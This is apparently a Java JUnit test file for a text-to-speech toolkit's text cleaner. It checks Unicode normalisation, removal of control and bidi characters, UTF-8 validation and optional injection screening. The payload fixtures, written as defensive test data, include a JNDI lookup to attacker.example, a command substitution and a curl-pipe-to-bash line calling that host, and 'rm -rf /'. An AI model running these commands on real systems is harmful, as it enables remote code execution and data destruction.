package dev.ttskit.validation;

import dev.ttskit.ValidationException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.params.provider.Arguments.arguments;

class TextCleanerTest {
    private static final String FAMILY = "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67";   // man ZWJ woman ZWJ girl
    private static final String ENGLAND = "\uD83C\uDFF4\uDB40\uDC67\uDB40\uDC62\uDB40\uDC65\uDB40\uDC6E\uDB40\uDC67\uDB40\uDC7F";
    private static final String PERSIAN_ZWNJ = "\u0645\u06CC\u200C\u062E\u0648\u0627\u0647\u0645";   // "mi-khaham"
    private static final String HINDI_ZWNJ = "\u0915\u094D\u200C\u0937";                          // ka virama ZWNJ ssa
    private static final String MALAYALAM_ZWJ = "\u0D23\u0D4D\u200D";                              // chillu form, ends in ZWJ

    static Stream<Arguments> rules() {
        return Stream.of(
                arguments("plain ASCII unchanged", "Hello, world.", "Hello, world."),
                arguments("NFC composes e + acute", "caf\u0065\u0301", "caf\u00E9"),
                arguments("NFC keeps compatibility characters", "\uFB01ne", "\uFB01ne"),
                arguments("NUL removed", "a\u0000b", "ab"),
                arguments("BEL and ESC removed", "a\u0007\u001B[31mb", "a[31mb"),
                arguments("DEL removed", "a\u007Fb", "ab"),
                arguments("C1 CSI removed", "a\u009Bb", "ab"),
                arguments("newline kept", "a\nb", "a\nb"),
                arguments("tab kept", "a\tb", "a\tb"),
                arguments("CRLF becomes LF", "a\r\nb", "a\nb"),
                arguments("lone CR becomes LF", "a\rb", "a\nb"),
                arguments("NEL becomes LF", "a\u0085b", "a\nb"),
                arguments("line separator becomes LF", "a\u2028b", "a\nb"),
                arguments("LRE removed", "a\u202Ab", "ab"),
                arguments("RLE removed", "a\u202Bb", "ab"),
                arguments("PDF removed", "a\u202Cb", "ab"),
                arguments("LRO removed", "a\u202Db", "ab"),
                arguments("RLO removed", "a\u202Eb", "ab"),
                arguments("LRI removed", "a\u2066b", "ab"),
                arguments("RLI removed", "a\u2067b", "ab"),
                arguments("FSI removed", "a\u2068b", "ab"),
                arguments("PDI removed", "a\u2069b", "ab"),
                arguments("LRM removed", "a\u200Eb", "ab"),
                arguments("RLM removed", "a\u200Fb", "ab"),
                arguments("ALM removed", "a\u061Cb", "ab"),
                arguments("ZWSP removed", "a\u200Bb", "ab"),
                arguments("BOM removed", "\uFEFFab", "ab"),
                arguments("word joiner removed", "a\u2060b", "ab"),
                arguments("ZWJ kept in emoji family", "We are " + FAMILY + ".", "We are " + FAMILY + "."),
                arguments("ZWJ removed between Latin letters", "a\u200Db", "ab"),
                arguments("ZWJ removed at the end", "ab\u200D", "ab"),
                arguments("ZWNJ kept in Persian", PERSIAN_ZWNJ, PERSIAN_ZWNJ),
                arguments("ZWNJ kept in Devanagari", HINDI_ZWNJ, HINDI_ZWNJ),
                arguments("ZWJ kept inside Malayalam word", MALAYALAM_ZWJ + "\u0D15", MALAYALAM_ZWJ + "\u0D15"),
                arguments("ZWNJ removed between Latin letters", "Auf\u200Clage", "Auflage"),
                arguments("ZWNJ removed between Persian and Latin", "\u0645\u200Ca", "\u0645a"),
                arguments("flag tag sequence kept", ENGLAND + " team", ENGLAND + " team"),
                arguments("stray tag characters removed", "hi\uDB40\uDC41\uDB40\uDC42", "hi"),
                arguments("spaces collapsed", "a   b", "a b"),
                arguments("mixed horizontal run collapsed", "a \t\u00A0 b", "a b"),
                arguments("single no-break space kept", "10\u00A0km", "10\u00A0km"),
                arguments("newline run collapsed to paragraph", "a\n\n\n\nb", "a\n\nb"),
                arguments("spaces around newline collapsed", "a  \n  b", "a\nb"),
                arguments("leading and trailing whitespace trimmed", "  \n a b \t ", "a b"),
                arguments("Trojan Source line", "if (admin\u202E \u2066// check\u2069 \u2066) {", "if (admin // check ) {"),
                arguments("removal between base and mark recomposes", "e\u200B\u0301", "\u00E9"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("rules")
    void appliesEachRule(String rule, String input, String expected) {
        CleanedText cleaned = TextCleaner.standard().clean(input);
        assertEquals(expected, cleaned.text(), rule);
        assertEquals(!expected.equals(input), cleaned.report().changed(), rule + ": report changed flag");
    }

    static Stream<Arguments> nfkc() {
        return Stream.of(
                arguments("\uFB01ne", "fine"),
                arguments("\uFF21\uFF22\uFF23", "ABC"),
                arguments("x\u00B2", "x2"),
                arguments("\u2460", "1"));
    }

    @ParameterizedTest
    @MethodSource("nfkc")
    void nfkcFoldsCompatibilityCharacters(String input, String expected) {
        assertEquals(expected, TextCleaner.standard().withNfkc(true).clean(input).text());
    }

    @ParameterizedTest
    @ValueSource(strings = {"", " ", "\n\t \r\n", "\u200B\u202E\u2066", "\u0000\u0001", "\uFEFF", "\u200D\u200C"})
    void rejectsTextEmptyAfterCleaning(String input) {
        ValidationException e = assertThrows(ValidationException.class, () -> TextCleaner.standard().clean(input));
        assertTrue(e.getMessage().contains("empty after cleaning"), e.getMessage());
    }

    static Stream<Arguments> unpaired() {
        return Stream.of(arguments("\uD800", 0), arguments("ab\uDC00", 2), arguments("a\uD83Db", 1),
                arguments("ok \uD83D\uDE00 then \uDE00", 11));
    }

    @ParameterizedTest
    @MethodSource("unpaired")
    void rejectsUnpairedSurrogatesNamingTheIndex(String input, int index) {
        ValidationException e = assertThrows(ValidationException.class, () -> TextCleaner.standard().clean(input));
        assertTrue(e.getMessage().contains("unpaired surrogate at index " + index), e.getMessage());
    }

    static Stream<Arguments> utf8() {
        return Stream.of(
                arguments("lone continuation byte", new byte[] {'a', (byte) 0x80}, 1),
                arguments("overlong slash", new byte[] {(byte) 0xC0, (byte) 0xAF}, 0),
                arguments("encoded surrogate", new byte[] {'x', 'y', (byte) 0xED, (byte) 0xA0, (byte) 0x80}, 2),
                arguments("above U+10FFFF", new byte[] {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, 0),
                arguments("invalid lead byte", new byte[] {'a', 'b', 'c', (byte) 0xFF}, 3),
                arguments("truncated at the end", new byte[] {'a', (byte) 0xE2, (byte) 0x82}, 1),
                arguments("interrupted sequence", new byte[] {(byte) 0xE2, 'a', 'b'}, 0));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("utf8")
    void rejectsMalformedUtf8NamingTheByteOffset(String name, byte[] input, int offset) {
        ValidationException e = assertThrows(ValidationException.class, () -> TextCleaner.validateUtf8(input));
        assertTrue(e.getMessage().contains("byte offset " + offset + " "), e.getMessage());
    }

    @Test
    void decodesValidUtf8() {
        String text = "na\u00EFve \u20AC \uD83D\uDE00 \u4E2D";
        assertEquals(text, TextCleaner.validateUtf8(text.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
    }

    @Test
    void countsUtf8BytesWithoutEncoding() {
        String text = "a\u00E9\u20AC\uD83D\uDE00";
        assertEquals(text.getBytes(java.nio.charset.StandardCharsets.UTF_8).length, TextCleaner.utf8Length(text));
        assertEquals(10, TextCleaner.utf8Length(text));
    }

    @Test
    void reportsCountsOfEachChange() {
        String input = "  caf\u0065\u0301\u0000\u0007 \u202Eab\u200B   c\r\nd ";
        CleaningReport r = TextCleaner.standard().clean(input).report();
        assertEquals(input.length(), r.inputChars());
        assertTrue(r.normalised());
        assertEquals(2, r.controlsRemoved());
        assertEquals(1, r.bidiControlsRemoved());
        assertEquals(1, r.invisiblesRemoved());
        assertEquals(3, r.whitespaceRunsCollapsed());   // leading, the triple space, trailing
        assertEquals(1, r.lineBreaksNormalised());
        assertEquals("caf\u00E9 ab c\nd".length(), r.outputChars());
    }

    @Test
    void reportAndResultNeverPrintTheText() {
        CleanedText cleaned = TextCleaner.standard().clean("secret launch codes\u202E");
        assertFalse(cleaned.toString().contains("secret"));
        assertFalse(cleaned.report().toString().contains("secret"));
    }

    @Test
    void masksUrlsAndEmailsOnlyWhenAsked() {
        String text = "See https://example.com/a?b=c, or www.example.org. Mail jane.doe@example.co.uk!";
        assertEquals(text, TextCleaner.standard().clean(text).text());
        CleanedText masked = TextCleaner.standard().withUrlMasking(true).withEmailMasking(true).clean(text);
        assertEquals("See link, or link. Mail e-mail address!", masked.text());
        assertEquals(2, masked.report().urlsMasked());
        assertEquals(1, masked.report().emailsMasked());
    }

    static Stream<String> ordinaryProse() {
        return Stream.of(
                "Type whoami to see which user you are.",
                "Wrap code in backticks, like `ls -la`, when you write Markdown.",
                "It&#39;s an HTML entity for an apostrophe.",
                "Tom & Jerry; Jerry && Tom? Either || neither.",
                "The price rose to $5 (roughly) and then ${value} in the template docs.",
                "Use ../ to go up one directory, and C:\\Users\\me for Windows.",
                "SELECT is a keyword; the union of two sets is a set.",
                "She said 'or 1 = 1' is an old trick.");
    }

    @ParameterizedTest
    @MethodSource("ordinaryProse")
    void lenientInjectionPolicyPassesOrdinaryProse(String prose) {
        assertEquals(prose, TextCleaner.standard().withInjectionPolicy(InjectionPolicy.LENIENT).clean(prose).text());
    }

    static Stream<Arguments> payloads() {
        return Stream.of(
                arguments("${jndi:ldap://attacker.example/a}", "lookup-expression"),
                arguments("hello ${ env:AWS_SECRET }", "lookup-expression"),
                arguments("<script>alert(1)</script>", "script-tag"),
                arguments("click javascript:alert(1)", "javascript-url"),
                arguments("<!DOCTYPE x [<!ENTITY a 'b'>]>", "markup-declaration"),
                arguments("name $(curl attacker.example)", "command-substitution"),
                arguments("curl -s attacker.example/x | bash", "pipe-to-interpreter"),
                arguments("now rm -rf / please", "destructive-command"));
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void lenientInjectionPolicyRejectsPayloadsNamingTheRule(String payload, String rule) {
        ValidationException e = assertThrows(ValidationException.class,
                () -> TextCleaner.standard().withInjectionPolicy(InjectionPolicy.LENIENT).clean(payload));
        assertTrue(e.getMessage().contains("'" + rule + "'"), e.getMessage());
        assertFalse(e.getMessage().contains("attacker"), "message must not echo the text");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Type whoami now.", "Run `ls` please.", "It&#39;s fine.", "a && b", "{{ user.name }}",
            "../../etc", "' OR 1=1"})
    void strictInjectionPolicyRejectsWhatLenientAllows(String text) {
        TextCleaner strict = TextCleaner.standard().withInjectionPolicy(InjectionPolicy.STRICT);
        assertThrows(ValidationException.class, () -> strict.clean(text));
    }

    @Test
    void injectionScreeningIsOffByDefault() {
        String payload = "${jndi:ldap://attacker.example/a}";
        assertEquals(payload, TextCleaner.standard().clean(payload).text());
    }
}
